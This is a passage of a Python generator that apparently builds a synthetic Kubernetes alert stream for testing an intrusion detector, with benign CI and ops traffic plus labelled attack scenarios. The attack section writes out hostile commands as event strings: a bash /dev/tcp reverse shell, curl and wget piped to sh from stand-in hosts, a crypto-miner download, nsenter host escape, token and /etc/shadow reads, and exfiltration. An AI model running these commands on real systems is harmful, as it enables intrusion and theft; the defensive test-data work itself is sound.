    for d in range(int(hours // 24) + 1):
        if START_NS + d * day + 2 * HOUR < g.end_ns:
            nightly_report(START_NS + d * day + 2 * HOUR + rng.randrange(30 * NS))
            db_backup(START_NS + d * day + 90 * MIN + rng.randrange(30 * NS))

    # === CI: build pods that exec a long tail of programs ===================================
    ci_tools = [
        # (process, exe, weight): common first, then a long tail
        ("git", "/usr/bin/git", 30), ("sh", "/bin/sh", 40), ("make", "/usr/bin/make", 15),
        ("go", "/usr/local/go/bin/go", 12), ("compile", "/usr/local/go/pkg/tool/linux_amd64/compile", 12),
        ("link", "/usr/local/go/pkg/tool/linux_amd64/link", 6), ("vet", "/usr/local/go/pkg/tool/linux_amd64/vet", 4),
        ("gcc", "/usr/bin/gcc", 6), ("cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", 6), ("as", "/usr/bin/as", 6),
        ("ld", "/usr/bin/ld", 4), ("collect2", "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", 4),
        ("npm", "/usr/local/bin/npm", 10), ("node", "/usr/local/bin/node", 12), ("python3", "/usr/bin/python3", 8),
        ("pip", "/usr/local/bin/pip", 5), ("tar", "/bin/tar", 5), ("gzip", "/bin/gzip", 3), ("curl", "/usr/bin/curl", 5),
        ("cat", "/bin/cat", 6), ("ls", "/bin/ls", 4), ("mkdir", "/bin/mkdir", 5), ("cp", "/bin/cp", 5), ("rm", "/bin/rm", 5),
        ("sed", "/bin/sed", 3), ("grep", "/bin/grep", 4), ("awk", "/usr/bin/awk", 2), ("sort", "/usr/bin/sort", 1),
        ("apt-get", "/usr/bin/apt-get", 2), ("dpkg", "/usr/bin/dpkg", 2), ("http", "/usr/lib/apt/methods/http", 2),
        ("eslint", "/builds/acme/web/node_modules/.bin/eslint", 2), ("jest", "/builds/acme/web/node_modules/.bin/jest", 2),
        ("pytest", "/usr/local/bin/pytest", 2), ("golangci-lint", "/usr/local/bin/golangci-lint", 1),
        ("docker-credential-gcr", "/usr/bin/docker-credential-gcr", 1), ("executor", "/kaniko/executor", 2),
        ("sha256sum", "/usr/bin/sha256sum", 1), ("xz", "/usr/bin/xz", 0.5), ("unzip", "/usr/bin/unzip", 0.5),
        ("jq", "/usr/bin/jq", 1), ("yq", "/usr/local/bin/yq", 0.5), ("helm", "/usr/local/bin/helm", 0.5),
        ("kubectl", "/usr/local/bin/kubectl", 0.3), ("protoc", "/usr/local/bin/protoc", 0.5),
        ("cargo", "/usr/local/cargo/bin/cargo", 0.3), ("rustc", "/usr/local/cargo/bin/rustc", 0.3),
        ("java", "/opt/java/openjdk/bin/java", 0.5), ("mvn", "/usr/share/maven/bin/mvn", 0.3),
        ("openssl", "/usr/bin/openssl", 0.3), ("wget", "/usr/bin/wget", 0.3), ("envsubst", "/usr/bin/envsubst", 0.3),
        ("terraform", "/usr/local/bin/terraform", 0.2), ("shellcheck", "/usr/bin/shellcheck", 0.2),
        ("hadolint", "/usr/local/bin/hadolint", 0.1), ("trivy", "/usr/local/bin/trivy", 0.2),
        ("cosign", "/usr/local/bin/cosign", 0.1), ("syft", "/usr/local/bin/syft", 0.1),
    ]  # fmt: skip
    tool_w = [w for _, _, w in ci_tools]
    projects = [("web", "docker.io/library/node", "20"), ("api", "docker.io/library/python", "3.11"),
                ("agent", "docker.io/library/golang", "1.21"), ("infra", "docker.io/library/alpine", "3.19"),
                ("images", "gcr.io/kaniko-project/executor", "v1.19.0")]  # fmt: skip
    runner = g.rand(8, "abcdefghijklmnopqrstuvwxyz0123456789")

    def build(t: int) -> None:
        pi = rng.randrange(len(projects))
        proj, image, tag = projects[pi]
        p = g.pod(
            "ci",
            f"runner-{runner}-project-{pi + 11}-concurrent-{rng.randrange(3)}-{g.rand(5)}",
            image,
            tag,
            t,
        )
        lab: tuple[str | None, str | None] = (None, "ci-long-tail") if t >= train_end else N
        g.spawn(
            t,
            p,
            "sh",
            "/bin/sh",
            "containerd-shim",
            "systemd",
            "sh -c if [ -x /usr/local/bin/bash ]",
            label=lab,
        )
        g.spawn(
            t + NS,
            p,
            "gitlab-runner-helper",
            "/usr/bin/gitlab-runner-helper",
            "sh",
            "containerd-shim",
            label=lab,
        )
        g.connect(
            t + 2 * NS,
            p,
            "git",
            "/usr/bin/git",
            "gitlab-runner-helper",
            "sh",
            chosen(gh_pool),
            443,
            label=lab,
        )
        script = f"/tmp/tmp.{g.rand(10, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}"
        steps = rng.randint(15, 60)
        for i in range(steps):
            ts = t + (5 + i * rng.randint(2, 15)) * NS
            proc, exe, _ = rng.choices(ci_tools, tool_w)[0]
            parent = rng.choice(["sh", "sh", "make", "npm", "go", "bash"])
            if rng.random() < 0.1:
                exe = f"{script}/{proc}"
            g.spawn(ts, p, proc, exe, parent, "sh", f"{proc} ...", label=lab)
            if proc in ("git", "curl", "npm", "pip", "go", "wget") and rng.random() < 0.5:
                g.connect(
                    ts + NS,
                    p,
                    proc,
                    exe,
                    parent,
                    "sh",
                    chosen(gh_pool + pkg_pool + cdn_pool),
                    443,
                    label=lab,
                )
            if proc == "apt-get":
                g.stock(ts, p, "Launch Package Management Process in Container", "ERROR",
                        "Package management process launched in container (user=root command=apt-get install -y jq)",
                        {"evt.type": "execve", "proc.name": "apt-get", "proc.pname": parent, "proc.aname[2]": "sh",
                         "proc.exepath": exe, "user.name": "root"},
                        ["maturity_incubating", "container", "process", "software_mgmt", "mitre_persistence", "T1505"], lab)  # fmt: skip
                g.connect(
                    ts + NS,
                    p,
                    "http",
                    "/usr/lib/apt/methods/http",
                    "apt-get",
                    parent,
                    chosen(pkg_pool),
                    80,
                    label=lab,
                )
            if proc == "dpkg":
                for _ in range(rng.randint(2, 6)):
                    path = rng.choice(["/usr/bin/jq", "/usr/lib/x86_64-linux-gnu/libonig.so.5", "/etc/ld.so.cache",
                                       f"/usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc.{rng.randint(100, 99999)}",
                                       f"/etc/apt/apt.conf.d/.tmp.{g.rand(6, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ')}"])  # fmt: skip
                    g.opened(
                        ts + NS,
                        p,
                        "dpkg",
                        exe,
                        parent,
                        "sh",
                        path,
                        write=True,
                        label=(None, "temp-names") if lab[1] else N,
                    )
            if proc in ("make", "go") and rng.random() < 0.3:
                g.stock(ts + 2 * NS, p, "Drop and execute new binary in container", "CRITICAL",
                        f"Executing binary not part of base image (proc_exe=/builds/acme/{proj}/bin/app)",
                        {"evt.type": "execve", "proc.name": "app", "proc.pname": proc, "proc.aname[2]": "sh",
                         "proc.exepath": f"/builds/acme/{proj}/bin/app", "user.name": "root"},
                        ["maturity_stable", "container", "process", "mitre_persistence", "TA0003"], lab)  # fmt: skip

    t = START_NS
    while t < g.end_ns:
        if rng.random() < 0.8 * diurnal(t):
            build(t + rng.randrange(15 * MIN))
        t += 15 * MIN

    # === node agents, mesh and controllers ===================================================
    fluent = daemonset("logging", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "2.2.0")
    exporters = daemonset(
        "monitoring", "node-exporter", "quay.io/prometheus/node-exporter", "v1.7.0"
    )
    prometheus = statefulset(
        "monitoring", "prometheus", "quay.io/prometheus/prometheus", "v2.48.0", 1
    )
    ds_live: dict[str, list[Pod]] = {"fluent": list(fluent), "exporters": list(exporters)}
    every_minute(g, lambda t: [p for p in ds_live["fluent"] if p.start_ns <= t < p.end_ns], 3, lambda t, p: g.connect(
        t, p, "fluent-bit", "/fluent-bit/bin/fluent-bit", "containerd-shim", "systemd", *es_svc))  # fmt: skip
    every_minute(g, lambda t: [p for p in ds_live["exporters"] if p.start_ns <= t < p.end_ns], 2, lambda t, p: g.connect(
        t, p, "node_exporter", "/bin/node_exporter", "containerd-shim", "systemd", "", 9100, user="nobody",
        inbound_from=prometheus[0].ip))  # fmt: skip

    def scrape(t: int, p: Pod) -> None:
        targets = [(x.node.ip, 9100) for x in ds_live["exporters"] if x.start_ns <= t < x.end_ns]
        targets += [(x.ip, 15020) for x in api.live(t)] + [(x.ip, 9102) for x in search]
        ip, port = rng.choice(targets)
        g.connect(
            t,
            p,
            "prometheus",
            "/bin/prometheus",
            "containerd-shim",
            "systemd",
            ip,
            port,
            user="nobody",
        )

    every_minute(g, lambda t: prometheus, 12, scrape, load=False)
    every_minute(g, lambda t: prometheus, 1, lambda t, p: g.connect(
        t, p, "prometheus", "/bin/prometheus", "containerd-shim", "systemd", *APISERVER, user="nobody"), load=False)  # fmt: skip
    every_minute(g, lambda t: prometheus, 1, lambda t, p: g.opened(
        t, p, "prometheus", "/bin/prometheus", "containerd-shim", "systemd",
        "/var/run/secrets/kubernetes.io/serviceaccount/token", user="nobody"), load=False)  # fmt: skip
    cm = Deploy(
        "cert-manager", "cert-manager", "quay.io/jetstack/cert-manager-controller", 1, "v1.13.2"
    )
    cm.roll(START_NS - day)
    cmp = ("cert-manager-co", "/app/cmd/controller/controller", "containerd-shim", "systemd")
    every_minute(
        g, cm.live, 2, lambda t, p: g.connect(t, p, *cmp, *APISERVER, user="1000"), load=False
    )
    every_minute(g, cm.live, 1, lambda t, p: g.opened(
        t, p, *cmp, "/var/run/secrets/kubernetes.io/serviceaccount/token", user="1000"), load=False)  # fmt: skip
    istio_d = Deploy("istio-system", "istiod", "docker.io/istio/pilot", 1, "1.20.1")
    istio_d.roll(START_NS - day)
    every_minute(g, istio_d.live, 1, lambda t, p: g.connect(
        t, p, "pilot-discovery", "/usr/local/bin/pilot-discovery", "containerd-shim", "systemd", *APISERVER, user="istio-proxy"), load=False)  # fmt: skip
    every_minute(g, istio_d.live, 1, lambda t, p: g.connect(
        t, p, "pilot-discovery", "/usr/local/bin/pilot-discovery", "containerd-shim", "systemd", "", 15012,
        user="istio-proxy", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip

    # === billing: calls the Kubernetes API itself (leader election) ==========================
    billing = Deploy("payments", "billing", "ghcr.io/acme/billing", 2, "5.0.3")
    billing.roll(START_NS - day)
    bp = ("python3", "/usr/local/bin/python3.11", "containerd-shim", "systemd")
    every_minute(
        g, billing.live, 1, lambda t, p: g.connect(t, p, *bp, *APISERVER, user="app"), load=False
    )
    every_minute(g, billing.live, 0.5, lambda t, p: g.opened(
        t, p, *bp, "/var/run/secrets/kubernetes.io/serviceaccount/token", user="app"), load=False)  # fmt: skip
    every_minute(g, billing.live, 2, lambda t, p: g.connect(t, p, *bp, *pg, user="app"))
    every_minute(
        g,
        billing.live,
        0.4,
        lambda t, p: g.connect(t, p, *bp, chosen(stripe_pool), 443, user="app"),
    )
    every_minute(g, billing.live, 0.3, lambda t, p: g.spawn(
        t, p, "python3", "/usr/local/bin/python3.11", "runc", "containerd-shim", "python3 -m billing.probe", user="app"), load=False)  # fmt: skip

    # === ml model server =======================================================================
    def ml_main(t: int, p: Pod) -> None:
        g.spawn(
            t,
            p,
            "python3",
            "/opt/conda/bin/python3.10",
            "containerd-shim",
            "systemd",
            "python3 -m serve",
            user="app",
        )
        for _ in range(3):
            g.connect(t + 5 * NS, p, *mlp, chosen(hf_pool), 443, user="app")

    mlp = ("python3", "/opt/conda/bin/python3.10", "containerd-shim", "systemd")
    ml = Deploy("ml", "model-server", "ghcr.io/acme/model-server", 2, "0.4.0", main=ml_main)
    ml.roll(START_NS - day)
    every_minute(g, ml.live, 2, lambda t, p: g.connect(
        t, p, *mlp, "", 8080, user="app", inbound_from=chosen(api.live(t) or api.pods).ip))  # fmt: skip
    every_minute(g, ml.live, 0.5, lambda t, p: g.connect(t, p, *mlp, *redis, user="app"))

    # === notifications: node.js that sends mail and calls the api ===========================
    notif = Deploy("shop", "notifications", "ghcr.io/acme/notifications", 2, "1.3.0", main=fe_main)
    notif.roll(START_NS - day)
    nd = ("node", "/usr/local/bin/node", "sh", "containerd-shim")
    every_minute(g, notif.live, 1.5, lambda t, p: g.connect(t, p, *nd, *api_svc, user="node"))
    every_minute(
        g,
        notif.live,
        0.4,
        lambda t, p: g.connect(t, p, *nd, chosen(cdn_pool[:3]), 587, user="node"),
    )
    every_minute(g, notif.live, 1, lambda t, p: g.connect(t, p, *nd, *redis, user="node"))
    every_minute(g, notif.live, 1, lambda t, p: g.connect(
        t, p, *nd, "", 8080, user="node", inbound_from=chosen(checkout.pods).ip))  # fmt: skip

    # === dev namespace: a sandbox app and developers' kubectl exec sessions ==================
    sandbox = Deploy("dev", "sandbox", "ghcr.io/acme/sandbox", 1, "dev-4f2a", main=fe_main)
    sandbox.roll(START_NS - day)
    every_minute(g, sandbox.live, 1, lambda t, p: g.connect(t, p, *nd, *api_svc, user="node"))
    dev_cmds = ["ls", "cat", "ps", "env", "curl", "vi", "grep", "top", "node", "tail", "df", "id",
                "ping", "nslookup", "less", "find", "wget", "head", "netstat", "du"]  # fmt: skip
    dev_w = [1 / (i + 1) for i in range(len(dev_cmds))]

    def dev_session(t: int) -> None:
        lab = (None, "dev-exec") if t >= train_end else N
        p = sandbox.live(t)[0]
        user = rng.choice(["alice@acme.dev", "bob@acme.dev", "carol@acme.dev"])
        g.audit_exec(t, p, user, "sh", lab)
        g.stock(t + NS // 2, p, "Terminal shell in container", "NOTICE",
                "A shell was spawned in a container with an attached terminal (user=root process=sh parent=runc)",
                {"evt.type": "execve", "proc.name": "sh", "proc.pname": "runc", "proc.exepath": "/bin/sh",
                 "user.name": "root", "proc.tty": 34816, "proc.cmdline": "sh"},
                ["maturity_stable", "container", "shell", "mitre_execution", "T1059"], lab)  # fmt: skip
        g.spawn(t + NS, p, "sh", "/bin/sh", "runc", "containerd-shim", "sh", label=lab)
        for i in range(rng.randint(3, 12)):
            cmd = rng.choices(dev_cmds, dev_w)[0]
            ts = t + (5 + 20 * i + rng.randrange(20)) * NS
            g.spawn(ts, p, cmd, f"/bin/{cmd}", "sh", "runc", f"{cmd} ...", label=lab)
            if cmd in ("curl", "wget"):
                g.connect(ts + NS, p, cmd, f"/bin/{cmd}", "sh", "runc", *api_svc, label=lab)

    for d in range(int(hours // 24) + 1):
        for _ in range(rng.randint(2, 4)):
            t = START_NS + d * day + int(rng.uniform(8, 18) * HOUR)
            if t < g.end_ns:
                dev_session(t)

    # === benign change on day 2 ==============================================================
    # node replacement: node 3 drained at 21 h 30, a new node joins
    old_node = g.nodes[2]
    new_node = Node(f"ip-10-0-7-{rng.randint(10, 250)}.ec2.internal", "10.0.7.31")
    t_swap = START_NS + 21 * HOUR + 30 * MIN
    g.nodes[2] = new_node
    for key in ("fluent", "exporters"):
        for p in list(ds_live[key]):
            if p.node is old_node:
                p.end_ns = t_swap
                base = p.name.rsplit("-", 1)[0]
                q = g.pod(
                    p.namespace, f"{base}-{g.rand(5)}", p.image, p.tag, t_swap + 40 * NS, new_node
                )
                ds_live[key].append(q)
                if key == "fluent":
                    g.spawn(q.start_ns, q, "fluent-bit", "/fluent-bit/bin/fluent-bit", "containerd-shim", "systemd",
                            label=(None, "node-replacement"))  # fmt: skip
    for dep in (web, frontend, api, checkout, notif):
        for p in dep.live(t_swap):
            if p.node is old_node:
                p.end_ns = t_swap
                h = p.name.rsplit("-", 2)[1]
                dep.new_pod(t_swap + 30 * NS, h, "node-replacement")

    web.roll(START_NS + 24 * HOUR, tag="1.25.4", benign="rollout")
    t_roll = START_NS + 28 * HOUR
    api.roll(t_roll, tag="3.9.0", benign="rollout")
    frontend.roll(START_NS + 37 * HOUR, replicas=8, benign="scale-up")

    # a new workload: recommendations, python like the api, from day 2 on
    reco = Deploy("shop", "recommendations", "ghcr.io/acme/recommendations", 2, "0.1.0")

    def reco_main(t: int, p: Pod) -> None:
        lab = (None, "new-workload")
        g.spawn(
            t,
            p,
            "gunicorn",
            "/usr/local/bin/python3.11",
            "containerd-shim",
            "systemd",
            "gunicorn reco:app",
            user="app",
            label=lab,
        )
        for w in range(2):
            g.spawn(
                t + NS + w,
                p,
                "gunicorn",
                "/usr/local/bin/python3.11",
                "gunicorn",
                "containerd-shim",
                "gunicorn reco:app",
                user="app",
                label=lab,
            )

    reco.main = reco_main
    reco.roll(START_NS + 34 * HOUR)
    rg = ("gunicorn", "/usr/local/bin/python3.11", "gunicorn", "containerd-shim")
    every_minute(g, reco.live, 3, lambda t, p: g.connect(t, p, *rg, *redis, user="app", label=(None, "new-workload")),
                 start=START_NS + 34 * HOUR)  # fmt: skip
    every_minute(g, reco.live, 1, lambda t, p: g.connect(t, p, *rg, *pg, user="app", label=(None, "new-workload")),
                 start=START_NS + 34 * HOUR)  # fmt: skip
    every_minute(g, reco.live, 2, lambda t, p: g.connect(
        t, p, "envoy", "/usr/local/bin/envoy", "pilot-agent", "containerd-shim", "", 8000, user="istio-proxy",
        inbound_from=chosen(frontend.live(t) or frontend.pods).ip, label=(None, "new-workload")), start=START_NS + 34 * HOUR)  # fmt: skip

    # === attacks =============================================================================
    def lab(s: str, t: int, pod: Pod) -> tuple[str | None, str | None]:
        g.scenario_start.setdefault(s, t)
        g.scenario_workload.setdefault(s, f"{pod.namespace}/{pod.name}")
        return (s, None)

    evil = [
        f"{rng.choice([45, 91, 185, 193, 5])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}.{rng.randint(1, 254)}"
        for _ in range(12)
    ]

    # revshell via the python the image already has
    t = at(23.2)
    p = api.live(t)[0]
    s = "revshell-python"
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "gunicorn",
        "gunicorn",
        "sh -c python3 -c 'import socket,os,pty;...'",
        user="app",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS // 5,
        p,
        "python3",
        "/usr/local/bin/python3.11",
        "sh",
        "gunicorn",
        "python3 -c import socket,os,pty;...",
        user="app",
        label=lab(s, t, p),
    )
    g.connect(
        t + NS // 3,
        p,
        "python3",
        "/usr/local/bin/python3.11",
        "sh",
        "gunicorn",
        evil[0],
        443,
        user="app",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS,
        p,
        "bash",
        "/bin/bash",
        "python3",
        "sh",
        "/bin/bash -i",
        user="app",
        label=lab(s, t, p),
    )
    for i, c in enumerate(["id", "uname", "ls", "cat"]):
        g.spawn(
            t + (20 + 15 * i) * NS,
            p,
            c,
            f"/bin/{c}",
            "bash",
            "python3",
            c,
            user="app",
            label=lab(s, t, p),
        )

    # revshell: bash -i with a network fd in the JVM service
    t = at(30.5)
    p = checkout.live(t)[0]
    s = "revshell-bash"
    g.spawn(
        t,
        p,
        "bash",
        "/usr/bin/bash",
        "java",
        "bash",
        "bash -c bash -i >& /dev/tcp/x/443 0>&1",
        user="app",
        label=lab(s, t, p),
    )
    g.connect(
        t + NS // 10,
        p,
        "bash",
        "/usr/bin/bash",
        "java",
        "bash",
        evil[1],
        443,
        user="app",
        label=lab(s, t, p),
    )
    g.stock(t + NS // 5, p, "Redirect STDOUT/STDIN to Network Connection in Container", "NOTICE",
            "Redirect stdout/stdin to network connection (process=bash parent=java)",
            {"evt.type": "dup2", "proc.name": "bash", "proc.pname": "java", "proc.exepath": "/usr/bin/bash",
             "user.name": "app", "fd.name": f"{p.ip}:40112->{evil[1]}:443"},
            ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"], lab(s, t, p))  # fmt: skip
    g.spawn(
        t + 30 * NS,
        p,
        "whoami",
        "/usr/bin/whoami",
        "bash",
        "java",
        "whoami",
        user="app",
        label=lab(s, t, p),
    )

    # miner: a binary renamed after the workload's own (java), in /tmp, to a pool port
    t = at(40.2)
    p = kafka[1]
    s = "miner-renamed"
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "java",
        "bash",
        "sh -c curl -so /tmp/.cache/java http://x/m",
        user="1001",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS,
        p,
        "curl",
        "/usr/bin/curl",
        "sh",
        "java",
        "curl -so /tmp/.cache/java",
        user="1001",
        label=lab(s, t, p),
    )
    g.connect(
        t + NS + NS // 2,
        p,
        "curl",
        "/usr/bin/curl",
        "sh",
        "java",
        evil[2],
        80,
        user="1001",
        label=lab(s, t, p),
    )
    g.spawn(
        t + 5 * NS,
        p,
        "java",
        "/tmp/.cache/java",
        "sh",
        "java",
        "java -o pool:3333",
        user="1001",
        label=lab(s, t, p),
    )
    for i in range(6):
        g.connect(
            t + (6 + 30 * i) * NS,
            p,
            "java",
            "/tmp/.cache/java",
            "sh",
            "java",
            evil[3],
            3333,
            user="1001",
            label=lab(s, t, p),
        )

    # service account token read, then the API server, from a pod that never does
    t = at(33.3)
    p = frontend.live(t)[0]
    s = "token-apiserver"
    g.opened(
        t,
        p,
        "node",
        "/usr/local/bin/node",
        "sh",
        "containerd-shim",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        user="node",
        label=lab(s, t, p),
    )
    for i in range(3):
        g.connect(
            t + (2 + 5 * i) * NS,
            p,
            "node",
            "/usr/local/bin/node",
            "sh",
            "containerd-shim",
            *APISERVER,
            user="node",
            label=lab(s, t, p),
        )

    # cloud metadata from a workload that never does
    t = at(25.1)
    p = ml.live(t)[0]
    s = "cloud-metadata"
    for i in range(3):
        g.connect(t + i * 2 * NS, p, *mlp, "169.254.169.254", 80, user="app", label=lab(s, t, p))

    # curl | sh in the search JVM
    t = at(36.4)
    p = search[2]
    s = "curl-pipe-sh"
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "java",
        "tini",
        "sh -c curl -s http://x/i.sh | sh",
        user="elasticsearch",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS // 10,
        p,
        "curl",
        "/usr/bin/curl",
        "sh",
        "java",
        "curl -s http://x/i.sh",
        user="elasticsearch",
        label=lab(s, t, p),
    )
    g.connect(
        t + NS // 5,
        p,
        "curl",
        "/usr/bin/curl",
        "sh",
        "java",
        evil[4],
        80,
        user="elasticsearch",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS // 2,
        p,
        "sh",
        "/bin/sh",
        "sh",
        "java",
        "sh",
        user="elasticsearch",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS,
        p,
        "chmod",
        "/bin/chmod",
        "sh",
        "sh",
        "chmod +x /tmp/s",
        user="elasticsearch",
        label=lab(s, t, p),
    )

    # lateral movement: slow scan of new in-cluster peers on new ports, from node.js
    t = at(26.3)
    p = notif.live(t)[0]
    s = "lateral-scan"
    ports = [22, 2375, 2379, 3306, 6443, 10250, 10255, 27017, 9200, 5432, 8080, 11211]
    targets = [x.ip for x in search + kafka + redis_pods + postgres] + [
        x.node.ip for x in exporters[:3]
    ]
    for i, port in enumerate(ports):
        g.connect(
            t + i * rng.randint(90, 200) * NS,
            p,
            *nd,
            rng.choice(targets),
            port,
            user="node",
            label=lab(s, t, p),
        )

    # exfiltration with the workload's own tar and curl, to a new external peer
    t = START_NS + 42 * HOUR + 40 * MIN
    upload(t, postgres[0], label=lab("exfil-tar-curl", t, postgres[0]), ip=evil[5])

    # slow weak signals over an hour in billing: each alone mild
    t = at(44.0)
    p = billing.live(t)[0]
    s = "slow-weak-signals"
    steps: list[Callable[[int], None]] = [
        lambda u: g.spawn(
            u, p, "id", "/usr/bin/id", "sh", "python3", "id", user="app", label=lab(s, u, p)
        ),
        lambda u: g.spawn(
            u,
            p,
            "sh",
            "/bin/sh",
            "python3",
            "containerd-shim",
            "sh -c env",
            user="app",
            label=lab(s, u, p),
        ),
        lambda u: g.connect(u, p, *bp, g.nodes[0].ip, 10250, user="app", label=lab(s, u, p)),
        lambda u: g.spawn(
            u, p, "env", "/usr/bin/env", "sh", "python3", "env", user="app", label=lab(s, u, p)
        ),
        lambda u: g.opened(u, p, *bp, "/etc/shadow", user="app", label=lab(s, u, p)),
        lambda u: g.connect(
            u, p, *bp, *g.service("kube-dns-metrics", 9153), user="app", label=lab(s, u, p)
        ),
        lambda u: g.spawn(
            u, p, "ps", "/bin/ps", "sh", "python3", "ps aux", user="app", label=lab(s, u, p)
        ),
    ]
    for i, step in enumerate(steps):
        step(t + i * rng.randint(7, 11) * MIN)

    # privilege step in the node log agent
    t = at(38.6)
    p = [x for x in ds_live["fluent"] if x.start_ns <= t < x.end_ns][0]
    s = "privilege-step"
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "fluent-bit",
        "containerd-shim",
        "sh -c nsenter -t 1 -m sh",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS,
        p,
        "nsenter",
        "/usr/bin/nsenter",
        "sh",
        "fluent-bit",
        "nsenter -t 1 -m -u -i -n sh",
        label=lab(s, t, p),
    )
    g.spawn(
        t + 2 * NS,
        p,
        "mount",
        "/usr/bin/mount",
        "nsenter",
        "sh",
        "mount /dev/nvme0n1p1 /mnt",
        label=lab(s, t, p),
    )
    g.opened(
        t + 3 * NS,
        p,
        "sh",
        "/bin/sh",
        "nsenter",
        "sh",
        "/etc/kubernetes/kubelet.conf",
        label=lab(s, t, p),
    )

    # a brand-new workload, no history: back-off to namespace and cluster
    t = at(31.0)
    s = "new-workload-attack"
    atk = Deploy("default", "metrics-helper", "docker.io/library/alpine", 1, "3.19")
    p = atk.roll(t)[0]
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "containerd-shim",
        "systemd",
        "sh -c sleep 30; wget ...",
        label=lab(s, t, p),
    )
    g.spawn(
        t + 30 * NS,
        p,
        "wget",
        "/bin/busybox",
        "sh",
        "containerd-shim",
        "wget -qO /tmp/a http://x/a",
        label=lab(s, t, p),
    )
    g.connect(
        t + 31 * NS,
        p,
        "wget",
        "/bin/busybox",
        "sh",
        "containerd-shim",
        evil[6],
        8080,
        label=lab(s, t, p),
    )
    g.opened(
        t + 35 * NS,
        p,
        "cat",
        "/bin/busybox",
        "sh",
        "containerd-shim",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        label=lab(s, t, p),
    )
    g.spawn(t + 36 * NS, p, "a", "/tmp/a", "sh", "containerd-shim", "/tmp/a", label=lab(s, t, p))
    g.connect(
        t + 37 * NS, p, "a", "/tmp/a", "sh", "containerd-shim", *APISERVER, label=lab(s, t, p)
    )

    # an attack inside the api rollout (its new pods are busy being new)
    t = t_roll + 4 * MIN
    p = [x for x in api.live(t) if x.tag == "3.9.0"][0]
    s = "attack-during-rollout"
    g.spawn(
        t,
        p,
        "sh",
        "/bin/sh",
        "celery",
        "sh",
        "sh -c wget -qO- http://x/b | sh",
        user="app",
        label=lab(s, t, p),
    )
    g.spawn(
        t + NS,
        p,
        "wget",
        "/usr/bin/wget",
        "sh",
        "celery",
        "wget -qO- http://x/b",
        user="app",
        label=lab(s, t, p),
    )
    g.connect(
        t + 2 * NS,
        p,
        "wget",
        "/usr/bin/wget",
        "sh",
        "celery",
        evil[7],
        8080,
        user="app",
        label=lab(s, t, p),
    )
    g.spawn(
        t + 4 * NS,
        p,
        "python3",
        "/usr/local/bin/python3.11",
        "sh",
        "celery",
        "python3 -c exec(...)",
        user="app",
        label=lab(s, t, p),
    )
    g.connect(
        t + 5 * NS,
        p,
        "python3",
        "/usr/local/bin/python3.11",
        "sh",
        "celery",
        evil[7],
        8443,
        user="app",
        label=lab(s, t, p),
    )

    for job in g.jobs:
        job()
    records = sorted(
        (r for r in g.records if START_NS <= r.time_ns < g.end_ns), key=lambda r: r.time_ns
    )
    return Stream(seed, hours, "hard", train_end, records, g.scenario_start, g.scenario_workload)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--hours", type=float, default=48.0)
    parser.add_argument("--out", required=True)
    args = parser.parse_args()
    stream = generate(args.seed, args.hours)
    with open(args.out, "w", encoding="utf-8") as fh:
        for line in stream.lines():
            fh.write(line + "\n")
    print(f"{len(stream.records)} alerts written to {args.out}")


if __name__ == "__main__":
    main()
